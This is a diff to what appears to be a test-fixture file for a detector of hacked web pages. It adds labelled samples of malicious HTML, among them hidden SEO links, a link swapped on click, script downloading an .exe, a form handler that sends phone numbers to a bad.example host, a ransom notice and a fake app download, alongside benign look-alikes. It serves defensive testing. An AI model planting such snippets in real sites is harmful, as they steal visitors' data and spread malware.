@@ -29,6 +29,24 @@ _LOAD = "var e=document.createElement('script');e.src=%s;document.body.appendChi
 _ROWS = ",".join(str(ord(letter) ^ 77) for letter in ADDRESS)
 _MOVED = "".join(chr(ord(letter) + 1) for letter in ADDRESS)
 TOLD_AT_FIRST = {
+    "links without anything in them": put("".join(f"<a href='http://s{n}.bad.example/'></a>" for n in range(3))),
+    "links in a drawing of no size": put(
+        "<svg width='0' height='0'><a xlink:href='http://j.bad.example/'><text>九游会</text></a></svg>"
+    ),
+    "a link exchanged while it is pressed": put(
+        "<a href='/sb/' onmousedown=\"this.href='https://sb.bad.example/card/'\">社保查询</a>"
+    ),
+    "a program fetched by a control": script(
+        'var x=dm.CreateObject("Microsoft.XMLHTTP","");x.Open("GET","http://198.51.100.30/a.exe",0);'
+    ),
+    "extortion": put("<p>此站存在严重漏洞,已被暗夜小组入侵!管理员请加QQ:100086 付费修复,否则数据公开</p>"),
+    "letters that go to two": put(
+        "<form action='/letter' onsubmit=\"(new Image).src='//l.bad.example/c?'+$(this).serialize()\">"
+        "<input name=phone></form>"
+    ),
+    "a program that everybody must have": put(
+        "<div><p>根据要求,请全体居民下载“云山通”APP完成实名登记</p><a href='http://198.51.100.145/yst.apk'>立即下载</a></div>"
+    ),
     "a program called a document": put("<a href='/u/P020240513.docx.exe'>城乡居民参保登记表.docx</a>"),
     "a screen saver called a picture": put("<a href='/u/xc.jpg.scr'>现场照片</a>"),
     "a script called a picture": put("<script src='/upload/201809/8817.jpg'></script>"),
@@ -149,6 +167,19 @@ TOLD_AGAINST_THE_BASELINE = {
     "called away": put("<p>合作联系 TG:@boss88</p>"),
 }
 HONEST = {
+    "links drawn by their class": put(
+        "".join(f"<a class='s{n}' href='http://s{n}.shop.example/'></a>" for n in range(4))
+    ),
+    "an empty link left behind": put("<a href='http://old.partner.example/'></a><a name=n1></a><a name=n2></a>"),
+    "links that are pictures": put(
+        "".join(f"<a href='http://p{n}.partner.example/'><img src='/l{n}.png'></a>" for n in range(4))
+    ),
+    "a press that is counted": put("<a href='/sb/' onmousedown=\"_hmt.push(['_trackEvent','sb'])\">社保查询</a>"),
+    "a form that is looked through": put(
+        "<form action='/letter' onsubmit=\"if(!this.phone.value){alert('请填');return false}\"><input name=phone></form>"
+    ),
+    "a control of old": script('var x;if(window.ActiveXObject){x=new ActiveXObject("Microsoft.XMLHTTP")}'),
+    "news of a break-in": put("<p>警方通报：某公司服务器已被黑客入侵，管理员应及时修补漏洞，防范勒索</p>"),
     "a program that is called one": put("<a href='/u/setup.exe'>下载安全控件 setup.exe</a>"),
     "a document of its own name": put("<a href='/u/com.exe.docx'>关于.exe文件防范的通知.docx</a>"),
     "keys that help": put("<p>按 Ctrl+D 收藏本站，按 Ctrl + F5 刷新，Win+R 打开运行</p>"),
